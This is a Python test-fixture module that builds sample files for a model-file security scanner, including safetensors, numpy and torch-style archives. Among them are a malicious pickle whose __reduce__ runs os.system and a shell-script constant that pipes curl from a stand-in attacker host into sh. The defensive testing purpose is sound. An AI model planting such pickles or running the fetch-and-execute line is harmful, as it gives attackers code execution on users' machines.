"""Real files for the scanner tests, built byte by byte (no torch or numpy needed)."""

import io
import json
import os
import pickle
import struct
import zipfile
from collections import OrderedDict


class RunsShell:
    """Unpickling this calls os.system: the classic malicious pickle."""

    def __reduce__(self):
        return (os.system, ("echo pwned",))


def evil_pickle(protocol: int = 4) -> bytes:
    return pickle.dumps(RunsShell(), protocol=protocol)


def benign_pickle() -> bytes:
    return pickle.dumps({"weights": [0.5, -1.25, 3.0], "name": "tiny", "layers": (1, 2),
                         "order": OrderedDict(a=1)})


def torch_zip(data_pkl: bytes) -> bytes:
    """The layout torch.save writes: archive/data.pkl, archive/version, raw storages."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", data_pkl)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/data/0", struct.pack("<4f", 1.0, 2.0, 3.0, 4.0))
    return buffer.getvalue()


def npy(payload: bytes, descr: str = "|O") -> bytes:
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * (63 - 10 - len(header)) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def npz(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def safetensors(tensors: dict | None = None, data: bytes | None = None,
                header_len: int | None = None) -> bytes:
    """A safetensors file; by default two float32 tensors, 2x2 and 3."""
    if tensors is None:
        tensors = {
            "__metadata__": {"format": "pt"},
            "layer.weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
            "layer.bias": {"dtype": "F32", "shape": [3], "data_offsets": [16, 28]},
        }
        data = struct.pack("<7f", *range(7))
    header = json.dumps(tensors).encode()
    header += b" " * (-len(header) % 8)
    length = len(header) if header_len is None else header_len
    return struct.pack("<Q", length) + header + (data or b"")


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100
PE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 52 + b"\x80\x00\x00\x00" + b"\x00" * 64 + \
    b"PE\x00\x00" + b"\x00" * 40
MACHO_MAGICS = [
    b"\xfe\xed\xfa\xce", b"\xce\xfa\xed\xfe", b"\xfe\xed\xfa\xcf", b"\xcf\xfa\xed\xfe",
    b"\xca\xfe\xba\xbe", b"\xbe\xba\xfe\xca", b"\xca\xfe\xba\xbf", b"\xbf\xba\xfe\xca",
]
SHEBANG = b"#!/bin/sh\ncurl http://attacker.invalid/x | sh\n"
